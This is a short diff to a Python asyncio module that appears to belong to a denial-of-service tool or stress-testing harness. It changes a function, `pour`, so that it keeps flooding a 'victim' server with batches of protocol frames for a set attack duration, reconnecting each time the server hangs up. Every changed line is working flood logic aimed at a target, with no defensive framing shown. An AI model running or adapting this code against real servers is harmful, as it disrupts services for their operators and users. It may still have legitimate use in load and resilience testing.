@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import itertools
 from collections.abc import AsyncIterator, Callable, Sequence
 from contextlib import asynccontextmanager, suppress
 
@@ -71,22 +72,23 @@ async def raw(target: str, source: str = ATTACKER) -> AsyncIterator[tuple[asynci
         writer.transport.abort()
 
 
-async def pour(victim: Victim, frames: Callable[[int], bytes], number: int) -> int:
-    """Have the server take `frames(0)`, `frames(1)` …, on a new connection whenever it hangs up; the number of
-    connections that it took.
+async def pour(victim: Victim, frames: Callable[[int], bytes]) -> int:
+    """Have the server take `frames(0)`, `frames(1)` … for as long as the attack lasts, on a new connection whenever it
+    hangs up; the number of connections that it took.
     """
-    connections, done = 0, 0
-    while done < number:
+    connections = 0
+    loop = asyncio.get_running_loop()
+    ends = loop.time() + victim.lasts_s
+    while loop.time() < ends:
         connections += 1
-        first = done
         async with raw(victim.target) as (reader, writer):
             taking = asyncio.create_task(_read_until(reader, LAST))
             with suppress(ConnectionError):
                 writer.write(HELLO)
-                while done < number and not taking.done():
-                    batch = range(done - first, min(done + BATCH, number) - first)
-                    done += len(batch)
-                    writer.write(b"".join(map(frames, batch)))
+                for first in itertools.count(step=BATCH):
+                    if taking.done() or loop.time() > ends:
+                        break
+                    writer.write(b"".join(map(frames, range(first, first + BATCH))))
                     await writer.drain()
                     await asyncio.sleep(0)  # drain alone lets nobody else run while there is room
                 writer.write(frame(PING, payload=LAST))
